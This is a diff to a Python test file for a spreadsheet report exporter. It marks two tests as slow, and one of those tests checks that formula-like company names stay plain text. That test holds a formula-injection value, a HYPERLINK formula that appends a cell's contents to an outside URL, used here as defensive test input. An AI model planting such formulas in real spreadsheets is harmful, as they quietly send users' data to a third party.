@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 from dataclasses import replace
 
+import pytest
 from openpyxl import load_workbook
 from synthetic import archetypes
 
@@ -14,6 +15,7 @@ from bidassist.reports.accounts_json import assessment_json
 from bidassist.reports.accounts_xlsx import write_accounts_xlsx
 
 
+@pytest.mark.slow
 def test_workbook_has_charts_and_ids(tmp_path):
     result = assess(archetypes(), load_profile())
     path = write_accounts_xlsx(result, tmp_path / "accounts.xlsx")
@@ -28,6 +30,7 @@ def test_workbook_has_charts_and_ids(tmp_path):
     assert ("扒皮建设集团", "squeezer") in flags and ("一次性团购公司", "one_off") in flags
 
 
+@pytest.mark.slow
 def test_formula_like_names_stay_text(tmp_path):
     book = archetypes()
     evil = '=HYPERLINK("http://x/?p="&B2,"x")'
